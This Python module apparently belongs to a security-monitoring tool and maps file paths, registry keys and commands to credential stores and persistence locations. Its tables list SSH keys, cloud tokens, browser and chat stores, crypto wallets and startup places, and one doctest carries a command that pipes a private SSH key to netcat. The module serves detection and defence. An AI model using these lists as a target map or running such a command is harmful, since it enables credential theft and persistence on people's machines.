"""
Places on a machine that attackers read from or write to stay: paths, file names, registry keys.

A pattern is written with `/`, in lower case, and matches whole path components in a row, wherever they stand
in a text: a path, a glob, a registry key or a shell command. The pattern that ends furthest along decides,
the longest of equals.
"""

import re
from collections.abc import Mapping
from functools import lru_cache
from types import MappingProxyType
from typing import Final, TypeVar

from watchhouse.evidence.facts.values import Source

LONGEST: Final = 4096
"""Characters of a text that are searched; PATH_MAX of Linux."""

_LONGEST_NAME: Final = 64
"""Characters of a text without a slash beyond which it is prose."""

_REMEMBERED: Final = 512
"""Characters of a text up to which its answer is remembered: the memory must not fill with hostile text."""

_CREDENTIAL_FILES = {
    ".netrc": "netrc",
    "_netrc": "netrc",
    ".git-credentials": "Git credentials",
    ".config/git/credentials": "Git credentials",
    ".config/gh/hosts.yml": "GitHub CLI token",
    ".config/hub": "GitHub CLI token",
    ".config/github-copilot/hosts.json": "GitHub Copilot token",
    ".config/github-copilot/apps.json": "GitHub Copilot token",
    ".docker/config.json": "Docker credentials",
    ".dockercfg": "Docker credentials",
    ".kube/config": "kube config",
    ".kube": "kube config",
    "etc/kubernetes/admin.conf": "kube config",
    ".pypirc": "package-registry token",
    ".npmrc": "package-registry token",
    ".yarnrc.yml": "package-registry token",
    ".gem/credentials": "package-registry token",
    ".cargo/credentials": "package-registry token",
    ".cargo/credentials.toml": "package-registry token",
    ".nuget/nuget.config": "package-registry token",
    ".m2/settings.xml": "package-registry token",
    ".composer/auth.json": "package-registry token",
    ".terraform.d/credentials.tfrc.json": "Terraform token",
    ".pulumi/credentials.json": "Pulumi token",
    ".vault-token": "Vault token",
    ".pgpass": "database password",
    ".my.cnf": "database password",
    ".databrickscfg": "Databricks token",
    ".snowsql/config": "database password",
    ".cache/huggingface/token": "Hugging Face token",
    ".huggingface/token": "Hugging Face token",
    ".kaggle/kaggle.json": "Kaggle token",
    ".streamlit/secrets.toml": "application secrets",
    ".config/rclone/rclone.conf": "rclone credentials",
    ".claude/.credentials.json": "AI assistant login",
    ".claude.json": "AI assistant login",
    ".codex/auth.json": "AI assistant login",
    ".gemini/oauth_creds.json": "AI assistant login",
    "filezilla/sitemanager.xml": "FTP client passwords",
    "filezilla/recentservers.xml": "FTP client passwords",
    "winscp.ini": "FTP client passwords",
    "etc/shadow": "password hashes",
    "system32/config/sam": "password hashes",
    "microsoft/credentials": "Windows credential store",
    "microsoft/vault": "Windows credential store",
    "microsoft/protect": "Windows credential store",
    "library/keychains": "macOS keychain",
    "login.keychain-db": "macOS keychain",
    ".local/share/keyrings": "GNOME keyring",
    ".gnupg": "GnuPG keys",
    ".password-store": "password manager",
    "*.kdbx": "password manager",
    "bitwarden/data.json": "password manager",
    "1password/data": "password manager",
    "bitwarden desktop": "password manager",
    "nngceckbapebfimnlniiiahkandclblb": "password manager",
    "aeblfdkhhhdcdjpifhhbdiojplfjncoa": "password manager",
    "hdokiejnpimakedhajhdlcegeplioahd": "password manager",
    ".bash_history": "shell history",
    ".zsh_history": "shell history",
    ".python_history": "shell history",
    "consolehost_history.txt": "shell history",
    "steam/config/loginusers.vdf": "game session",
    ".minecraft/launcher_profiles.json": "game session",
    ".minecraft/launcher_accounts.json": "game session",
    "robloxcookies.dat": "game session",
}

_CLOUD_TOKENS = {
    ".aws/credentials": "AWS credentials",
    ".aws/config": "AWS settings",
    ".aws/sso/cache": "AWS credentials",
    ".aws/cli/cache": "AWS credentials",
    ".aws": "AWS credentials",
    ".boto": "AWS credentials",
    ".s3cfg": "AWS credentials",
    ".azure/accesstokens.json": "Azure token",
    ".azure/msal_token_cache.json": "Azure token",
    ".azure/msal_token_cache.bin": "Azure token",
    ".azure/azureprofile.json": "Azure profile",
    ".azure": "Azure token",
    ".config/gcloud": "Google Cloud credentials",
    "gcloud/credentials.db": "Google Cloud credentials",
    "gcloud/access_tokens.db": "Google Cloud credentials",
    "gcloud/legacy_credentials": "Google Cloud credentials",
    "application_default_credentials.json": "Google Cloud credentials",
    ".oci/config": "Oracle Cloud credentials",
    ".aliyun/config.json": "Alibaba Cloud credentials",
    ".bluemix/config.json": "IBM Cloud credentials",
    ".config/doctl/config.yaml": "DigitalOcean token",
    ".config/configstore/firebase-tools.json": "Firebase token",
    ".fly/config.yml": "Fly.io token",
    ".config/heroku": "Heroku token",
    "com.vercel.cli/auth.json": "Vercel token",
    "netlify/config.json": "Netlify token",
    "secrets/kubernetes.io/serviceaccount": "Kubernetes service account",
}

_SSH_KEYS = {
    ".ssh/id_rsa": "SSH private key",
    ".ssh/id_dsa": "SSH private key",
    ".ssh/id_ecdsa": "SSH private key",
    ".ssh/id_ed25519": "SSH private key",
    ".ssh": "SSH folder",
    "id_rsa": "SSH private key",
    "id_dsa": "SSH private key",
    "id_ecdsa": "SSH private key",
    "id_ed25519": "SSH private key",
    "etc/ssh/ssh_host_rsa_key": "SSH host key",
    "simontatham/putty/sessions": "PuTTY sessions",
}

_BROWSER_STORES = {
    "login data": "saved passwords",
    "login data for account": "saved passwords",
    "web data": "saved cards and forms",
    "network/cookies": "cookies",
    "default/cookies": "cookies",
    "user data": "browser profile",
    "user data/local state": "key of the browser store",
    "local state": "key of the browser store",
    "local storage/leveldb": "local storage",
    "local extension settings": "browser extensions' data",
    "sync extension settings": "browser extensions' data",
    "logins.json": "saved passwords",
    "signons.sqlite": "saved passwords",
    "key4.db": "key of the browser store",
    "key3.db": "key of the browser store",
    "cert9.db": "key of the browser store",
    "cookies.sqlite": "cookies",
    "formhistory.sqlite": "saved cards and forms",
    "places.sqlite": "history",
    "cookies.binarycookies": "cookies",
    "mozilla/firefox/profiles": "browser profile",
    "application support/firefox/profiles": "browser profile",
    ".mozilla/firefox": "browser profile",
    ".config/google-chrome": "browser profile",
    ".config/chromium": "browser profile",
    ".config/bravesoftware": "browser profile",
    ".config/microsoft-edge": "browser profile",
    ".config/opera": "browser profile",
    "application support/google/chrome": "browser profile",
    "application support/bravesoftware": "browser profile",
    "application support/microsoft edge": "browser profile",
    "google/chrome/user data": "browser profile",
    "google/chrome sxs/user data": "browser profile",
    "microsoft/edge/user data": "browser profile",
    "bravesoftware/brave-browser": "browser profile",
    "opera software/opera stable": "browser profile",
    "opera software/opera gx stable": "browser profile",
    "yandex/yandexbrowser/user data": "browser profile",
    "vivaldi/user data": "browser profile",
    "epic privacy browser/user data": "browser profile",
}

_CHAT_TOKENS = {
    "discord/local storage": "Discord token",
    "discord/local storage/leveldb": "Discord token",
    "discordcanary/local storage": "Discord token",
    "discordcanary/local storage/leveldb": "Discord token",
    "discordptb/local storage": "Discord token",
    "discordptb/local storage/leveldb": "Discord token",
    "discorddevelopment/local storage": "Discord token",
    "lightcord/local storage": "Discord token",
    "lightcord/local storage/leveldb": "Discord token",
    "roaming/discord": "Discord token",
    "roaming/discordcanary": "Discord token",
    "roaming/discordptb": "Discord token",
    "roaming/lightcord": "Discord token",
    "telegram desktop/tdata": "Telegram session",
    "telegramdesktop/tdata": "Telegram session",
    "tdata": "Telegram session",
    "signal/config.json": "Signal key",
    "signal/sql/db.sqlite": "Signal messages",
    "slack/local storage": "Slack token",
    "slack/local storage/leveldb": "Slack token",
    "slack/cookies": "Slack token",
    "microsoft/teams/cookies": "Teams token",
    "microsoft/teams/local storage": "Teams token",
    "skype for desktop/local storage": "Skype token",
    "element/local storage": "Element token",
}

_WALLETS = {
    "wallet.dat": "Bitcoin Core wallet",
    ".bitcoin": "Bitcoin Core wallet",
    "bitcoin/wallets": "Bitcoin Core wallet",
    "exodus.wallet": "Exodus wallet",
    "exodus/exodus.wallet": "Exodus wallet",
    "electrum/wallets": "Electrum wallet",
    ".electrum": "Electrum wallet",
    ".electrum/wallets": "Electrum wallet",
    "electrum-ltc/wallets": "Electrum wallet",
    "electron cash/wallets": "Electrum wallet",
    "atomic/local storage": "Atomic wallet",
    "atomic/local storage/leveldb": "Atomic wallet",
    "guarda/local storage": "Guarda wallet",
    "guarda/local storage/leveldb": "Guarda wallet",
    "coinomi/coinomi/wallets": "Coinomi wallet",
    "coinomi/wallets": "Coinomi wallet",
    "com.liberty.jaxx": "Jaxx wallet",
    "roaming/armory": "Armory wallet",
    "roaming/bytecoin": "Bytecoin wallet",
    "roaming/zcash": "Zcash wallet",
    "ethereum/keystore": "Ethereum keystore",
    ".ethereum": "Ethereum keystore",
    ".ethereum/keystore": "Ethereum keystore",
    ".config/solana": "Solana key",
    ".config/solana/id.json": "Solana key",
    "solana/id.json": "Solana key",
    ".sui/sui_config": "Sui key",
    ".aptos/config.yaml": "Aptos key",
    "monero/wallets": "Monero wallet",
    "ledger live": "Ledger Live",
    "@trezor/suite-desktop": "Trezor Suite",
    "walletwasabi/client/wallets": "Wasabi wallet",
    "daedalus mainnet/wallets": "Daedalus wallet",
    "binance/app-store.json": "Binance desktop",
    # Ids of wallet extensions in the browsers' stores: they name the folder that holds the encrypted vault.
    "nkbihfbeogaeaoehlefnkodbefgpgknn": "MetaMask",
    "ejbalbakoplchlghecdalmeeeajnimhm": "MetaMask",
    "bfnaelmomeimhlpmgjnjophhpkkoljpa": "Phantom",
    "hnfanknocfeofbddgcijnmhnfnkdnaad": "Coinbase Wallet",
    "fhbohimaelbohpjbbldcngcnapndodjp": "Binance Wallet",
    "egjidjbpglichdcondbcbdnbeeppgdph": "Trust Wallet",
    "ibnejdfjmmkpcnlpebklmnkoeoihofec": "TronLink",
    "fnjhmkhhmkbjkkabndcnnogagogbneec": "Ronin",
    "aholpfdialjgjfhomihkjbmgjidlcdno": "Exodus Web3",
    "afbcbjpbpfadlkmhmclhkeeodmamcflc": "Math Wallet",
    "dmkamcknogkgcdfhhbddcghachkejeap": "Keplr",
    "bhhhlbepdkbapadjdnnojkbgioiodbic": "Solflare",
    "acmacodkjbdgmoleebolmdjonilkdbch": "Rabby",
    "mcohilncbfahbmgdjkbpemcciiolgcge": "OKX Wallet",
    "ffnbelfdoeiohenkjibnmadjiehjhajb": "Yoroi",
    "jbdaocneiiinmjbjlgalhcelgbejmnid": "Nifty",
    "hpglfhgfnhbgpjdenjgmdgoeiappafln": "Guarda",
    "dlcobpjiigpikoobohmabehhmhfoodbb": "Argent X",
    "jnlgamecbpmbajjfhmmmlhejkemejdma": "Braavos",
    "hmeobnfnfcmdkdcmlblgagmfpfboieaf": "XDEFI",
    "opcgpfmipidbgpenhmajoajpbobppdil": "Sui Wallet",
    "efbglgofoippbgcjepnhiblaibcnclgk": "Martian",
    "ejjladinnckdgjemekebdpeokbikhfci": "Petra",
    "aflkmfhebedbjioipglgcbcmnbpgliof": "Backpack",
}

_HARMLESS = (".ssh/known_hosts", ".ssh/authorized_keys", ".ssh/*.pub", ".ssh/config.d", ".aws/models")
"""Inside a pattern above and no secret: what is there is read by every SSH client, or written to stay."""

_STARTUP = {
    "currentversion/run": "Run key",
    "currentversion/runonce": "Run key",
    "currentversion/policies/explorer/run": "Run key",
    "currentversion/winlogon": "Winlogon key",
    "currentversion/image file execution options": "Image File Execution Options",
    "start menu/programs/startup": "Startup folder",
    "programs/startup": "Startup folder",
    "library/launchagents": "launch agent",
    "library/launchdaemons": "launch daemon",
    "etc/crontab": "crontab",
    "etc/cron.d": "crontab",
    "etc/cron.hourly": "crontab",
    "etc/cron.daily": "crontab",
    "etc/cron.weekly": "crontab",
    "var/spool/cron": "crontab",
    "etc/systemd/system": "systemd unit",
    "lib/systemd/system": "systemd unit",
    ".config/systemd/user": "systemd unit",
    ".local/share/systemd/user": "systemd unit",
    "etc/init.d": "boot script",
    "etc/rc.local": "boot script",
    "etc/ld.so.preload": "preloaded library",
    "etc/profile": "shell profile",
    "etc/profile.d": "shell profile",
    "etc/bash.bashrc": "shell profile",
    ".bashrc": "shell profile",
    ".bash_profile": "shell profile",
    ".bash_login": "shell profile",
    ".bash_logout": "shell profile",
    ".profile": "shell profile",
    ".zshrc": "shell profile",
    ".zprofile": "shell profile",
    ".zshenv": "shell profile",
    ".config/fish/config.fish": "shell profile",
    "fish/conf.d": "shell profile",
    "microsoft.powershell_profile.ps1": "PowerShell profile",
    "authorized_keys": "SSH authorized keys",
    ".config/autostart": "desktop autostart",
    "etc/xdg/autostart": "desktop autostart",
    "sitecustomize.py": "Python start-up file",
    "usercustomize.py": "Python start-up file",
    "site-packages/*.pth": "Python start-up file",
    "dist-packages/*.pth": "Python start-up file",
    ".git/hooks": "Git hook",
    ".git/hooks/pre-commit": "Git hook",
}

_COMPONENT = re.compile(r"[^/\\\"'`|;=<>(),:&$%{}\[\]\t\r\n]+")
_ID_LENGTH: Final = 32
_EXTENSION_ID = re.compile(r"(?<![a-z0-9])[a-p]{32}(?![a-z0-9])")

_Kind = TypeVar("_Kind")
_Rows = tuple[tuple[tuple[str, ...], _Kind], ...]


def source_of_path(text: str) -> tuple[Source, str] | None:
    r"""
    Return what is to be had at the place that `text` names, and in short what it is; None if nothing is known.

    >>> source_of_path("{}/.aws/credentials")
    (<Source.CLOUD_TOKEN: 'cloud credentials'>, 'AWS credentials')
    >>> source_of_path(r"{}\\Google\\Chrome\\User Data\\Default\\Login Data")[1]
    'saved passwords'
    >>> source_of_path("cat ~/.ssh/id_rsa | nc host 1")[1]
    'SSH private key'
    >>> source_of_path("~/.ssh/known_hosts") is None
    True
    """
    return _source(text) if len(text) <= _REMEMBERED else _innermost(text, _sources())


def startup_place(text: str) -> str | None:
    r"""
    Return the kind of place at which what is written runs again by itself, or None.

    >>> startup_place(r"Software\\Microsoft\\Windows\\CurrentVersion\\Run")
    'Run key'
    >>> startup_place("echo x >> ~/.bashrc")
    'shell profile'
    >>> startup_place("model/best.pth") is None
    True
    """
    return _startup(text) if len(text) <= _REMEMBERED else _innermost(text, _startups())


@lru_cache(maxsize=8192)
def _source(text: str) -> tuple[Source, str] | None:
    """Remember the answers of `source_of_path`: several readers ask about the same texts."""
    return _innermost(text, _sources())


@lru_cache(maxsize=8192)
def _startup(text: str) -> str | None:
    """Remember the answers of `startup_place`."""
    return _innermost(text, _startups())


@lru_cache(maxsize=1)
def _sources() -> Mapping[str, _Rows[tuple[Source, str] | None]]:
    """Return the table of `source_of_path`, by first component."""
    tables = {
        Source.CREDENTIAL_FILE: _CREDENTIAL_FILES,
        Source.CLOUD_TOKEN: _CLOUD_TOKENS,
        Source.SSH_KEY: _SSH_KEYS,
        Source.BROWSER: _BROWSER_STORES,
        Source.CHAT_TOKEN: _CHAT_TOKENS,
        Source.WALLET: _WALLETS,
    }
    rows: dict[str, tuple[Source, str] | None] = dict.fromkeys(_HARMLESS)
    rows.update(
        {pattern: (source, kind) for source, table in tables.items() for pattern, kind in table.items()}
    )
    return _by_first(rows)


@lru_cache(maxsize=1)
def _startups() -> Mapping[str, _Rows[str | None]]:
    """Return the table of `startup_place`, by first component."""
    return _by_first(dict[str, str | None](_STARTUP))


def _by_first(rows: Mapping[str, _Kind]) -> Mapping[str, _Rows[_Kind]]:
    """Return `rows` split into components and indexed by the first of them."""
    table: dict[str, _Rows[_Kind]] = {}
    for pattern, kind in rows.items():
        first, *_ = parts = tuple(pattern.split("/"))
        table[first] = (*table.get(first, ()), (parts, kind))
    return MappingProxyType(table)


def _innermost(text: str, table: Mapping[str, _Rows[_Kind | None]]) -> _Kind | None:
    """Return the kind of the pattern that ends furthest along in `text`, the longest of equals."""
    if len(text) > _LONGEST_NAME and "/" not in text and "\\" not in text:
        return None
    found: _Kind | None = None
    end = 0
    parts = [part.strip() for part in _COMPONENT.findall(text[:LONGEST].lower())]
    for start, part in enumerate(parts):
        kind: _Kind | None = None
        length = 0
        for key in _openings(part):
            for pattern, candidate in table.get(key, ()):
                if len(pattern) > length and _follows(parts, start, pattern):
                    kind, length = candidate, len(pattern)
        if kind is not None and start + length > end:
            found, end = kind, start + length
    return found


def _openings(part: str) -> tuple[str, ...]:
    """Return the keys under which a pattern that starts at `part` may stand: whole, each word, suffix."""
    keys = [part]
    if " " in part:
        keys += part.split()
    if part.endswith(".kdbx"):
        keys.append("*.kdbx")
    if len(part) > _ID_LENGTH:
        keys += _EXTENSION_ID.findall(part)
    return tuple(keys)


def _follows(parts: list[str], start: int, pattern: tuple[str, ...]) -> bool:
    """Return whether the rest of `pattern` stands in `parts` after `start`."""
    if start + len(pattern) > len(parts):
        return False
    for offset, wanted in enumerate(pattern[1:], start=1):
        part = parts[start + offset]
        if part != wanted and part.partition(" ")[0] != wanted and not _is_suffix(part, wanted):
            return False
    return True


def _is_suffix(part: str, wanted: str) -> bool:
    """Return whether `wanted` is `*suffix` (`*` alone: anything) and `part` ends so."""
    return wanted.startswith("*") and part.endswith(wanted[1:])
